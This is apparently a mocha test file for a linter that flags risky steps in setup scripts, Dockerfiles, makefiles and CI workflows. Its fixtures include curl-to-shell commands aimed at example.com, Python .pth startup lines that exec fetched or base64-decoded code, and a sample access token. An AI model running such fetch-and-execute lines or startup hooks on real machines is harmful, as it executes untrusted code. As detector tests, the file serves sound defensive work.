/** Scripts, recipes and build servers' steps: what they download, install and run. */

import { describe, it } from 'mocha';
import { fileCheck } from '../kit/check.ts';

const shell = fileCheck('setup.sh');
const docker = fileCheck('Dockerfile');
const make = fileCheck('Makefile');
const just = fileCheck('justfile');
const workflow = fileCheck('.github/workflows/ci.yml');
const gitlab = fileCheck('.gitlab-ci.yml');

describe('files: shell scripts', () => {
  it('pipe downloads into interpreters', () => {
    shell`
      #!/usr/bin/env bash
      set -euo pipefail
      curl -LsSf https://astral.sh/uv/install.sh | sh
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
      sudo apt-get update && sudo apt-get install -y git curl
      bash <(wget -qO- https://example.com/setup.sh)
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
    `;
  });
  it('run what they unpacked and put among the programs', () => {
    shell`
      curl -sL "https://example.com/releases/latest/gh.tar.gz" -o /tmp/gh.tar.gz
      tar -xzf /tmp/gh.tar.gz -C /tmp
      sudo mv /tmp/gh/bin/gh /usr/local/bin/
      gh --version
      ^^^^^^^^^^^^ download-and-run
      mv build/bin/own /usr/local/bin/
      own --version
    `;
  });
  it('install what has no version', () => {
    shell`
      pip install torch==2.6.0
      pip install -r requirements.txt
      pip install flash-attn --no-build-isolation
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      python -m pip install --upgrade pip
      npm ci
      pip install git+https://github.com/huggingface/transformers.git
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ runtime-install
    `;
  });
  it('take packages from other indexes', () => {
    shell`
      export PIP_EXTRA_INDEX_URL=https://pypi.example.com/simple
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
      pip install --extra-index-url https://pypi.example.com/simple ranking==1.4.2
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
    `;
  });
  it('run what was downloaded on another line', () => {
    shell`
      wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O miniconda.sh
      bash miniconda.sh -b -p $HOME/miniconda
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
    `;
  });
  it('accept with comments', () => {
    shell`
      #!/bin/sh
      # loadguard: ignore[download-and-run] the script is ours
      curl https://example.com/a.sh | sh
    `;
  });
  it('say nothing of what is in order', () => {
    shell`
      #!/bin/sh
      curl -fsSL https://example.com/data.csv -o data.csv
      echo "Run: curl https://example.com/install.sh | sh"
      apt-get install -y python3 git
      pip install -e ".[dev]"
      uv sync --locked
      npm ci && npm run build
    `;
    shell`
      #!/usr/bin/env python3
      print("curl https://example.com/a.sh | sh")
    `;
  });
});

describe('files: containers', () => {
  it('run what they download', () => {
    docker`
      FROM python:3.12-slim
      RUN apt-get update && apt-get install -y --no-install-recommends curl \
          # needed below
          && curl -fsSL https://example.com/setup_20.x | bash - \
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
          && rm -rf /var/lib/apt/lists/*
      RUN --mount=type=cache,target=/root/.cache pip install torch
                                                 ^^^^^^^^^^^^^^^^^ runtime-install
      RUN ["pip", "install", "vllm"]
            ^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      COPY requirements.txt .
      RUN pip install --no-cache-dir -r requirements.txt
      CMD ["python", "app.py"]
    `;
  });
  it('add what an address holds', () => {
    docker`
      ARG COMMIT=0123456789abcdef0123456789abcdef01234567
      FROM debian:12
      ARG COMMIT
      ADD https://example.com/tool.tar.gz /opt/
          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.com/a /a
      ADD src/ /app/
      ADD https://codeload.github.com/owner/tool/tar.gz/$COMMIT /opt/
      ADD https://example.com/install.sh /tmp/install.sh
      RUN sh /tmp/install.sh
          ^^^^^^^^^^^^^^^^^^ download-and-run
    `;
  });
  it('set indexes', () => {
    docker`
      FROM python:3.12
      ENV PIP_INDEX_URL=http://pypi.example.com/simple
          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
      ARG PIP_TRUSTED_HOST=pypi.example.com
          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
    `;
  });
  it('do not run what documents only quote', () => {
    shell`
      cat <<EOF > notes.md
      Then run \$(pip install rich) yourself.
      EOF
      cat <<EOF > versions.md
      $(pip install rich)
        ^^^^^^^^^^^^^^^^ runtime-install
      EOF
      pip install "rocm[devel]\${VERSION:+==\${VERSION}}"
    `;
  });
  it('hold documents', () => {
    docker`
      FROM python:3.12
      RUN <<EOF
      pip install accelerate
      ^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      EOF
      COPY <<EOF /app/readme
      RUN curl https://example.com/a.sh | sh
      EOF
      RUN bash <<EOF
      curl https://example.com/a.sh | sh
      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
      EOF
    `;
  });
});

describe('files: recipes', () => {
  it('run what they cloned before, in the folder that they say', () => {
    docker`
      FROM python:3.12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
      WORKDIR /home/app
      RUN git clone https://github.com/org/tools.git
      WORKDIR /home/app/tools
      RUN GPU=A ./start.sh --verbose
                ^^^^^^^^^^^^^^^^^^^^ download-and-run
      FROM python:3.12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
      WORKDIR /app
      RUN git clone https://github.com/org/server.git .
      CMD ["python3", "server.py"]
            ^^^^^^^^^^^^^^^^^^^^ download-and-run
      FROM python:3.12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
      WORKDIR /own
      COPY . .
      CMD ["python3", "server.py"]
    `;
  });
  it('of makefiles', () => {
    make`
      PIP := pip
      .PHONY: setup
      setup:
      	@curl -sSL https://install.python-poetry.org | python3 -
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
      	-python3 -m pip install twine
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      	$$(which python) -m pip install build
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ runtime-install
      help:
      	@echo "curl https://example.com | sh"
    `;
  });
  it('of justfiles', () => {
    just`
      setup:
          @curl -fsSL https://bun.sh/install | bash
           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
          uv sync --locked
      py:
          #!/usr/bin/env python3
          print("curl https://example.com/a | sh")
    `;
  });
});

describe('files: build servers', () => {
  it('run scripts in steps', () => {
    workflow`
      on: push
      jobs:
        test:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v4
            - run: pip install pytest
                   ^^^^^^^^^^^^^^^^^^ runtime-install
            - name: Tools
              run: |
                curl -LsSf https://astral.sh/uv/install.sh | sh
                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
                pip install torch==\${{ matrix.torch }}
            - run: >-
                curl -sSL
                ^^^^^^^^^ download-and-run
                https://example.com/i.sh
                | bash
            - shell: python
              run: print("pip install x")
    `;
  });
  it('of GitLab', () => {
    gitlab`
      test:
        image: python:3.12
        before_script:
          - curl -sSL https://example.com/install.sh | sh
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
          - "pip install --extra-index-url https://pypi.example.com/simple tools==1.0"
                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
        script:
          - pytest
    `;
  });
  it('of other tools, and variables', () => {
    fileCheck('Taskfile.yml')`
      tasks:
        install:
          cmds:
            - curl -sSL https://example.com/i.sh | sh
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
    `;
    workflow`
      env:
        PIP_EXTRA_INDEX_URL: https://pypi.example.com/simple
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ untrusted-index
      jobs:
        test:
          steps:
            - run: |
                git clone https://github.com/acme/a
                cd a
                git checkout \${{ github.sha }}
                pip install --resume-retries 999 .
    `;
  });
});

describe('files: lines that run when Python starts', () => {
  it('are checked as code, and paths are not', () => {
    fileCheck('site/a.pth')`
      /srv/app/lib
      import os, base64; exec(base64.b64decode("aW1wb3J0IG9zCm9zLmdldGN3ZCgp"))
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      import sys; sys.path.insert(0, "/srv/app/plugins")
    `;
    fileCheck('site/b.pth')`
      import urllib.request; exec(urllib.request.urlopen("https://example.com/a.py").read())
                                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
    `;
  });
});

describe("files: secrets of a build server's steps", () => {
  it('are held by no other step', () => {
    workflow`
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: curl -L https://example.com/install.sh | bash
                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
            - run: make publish
              env:
                TOKEN: glpat-m1JVMNVVX7sJxemd93LV
                       ^^^^^^^^^^^^^^^^^^^^^^^^^^ exposed-secret
    `;
  });
});
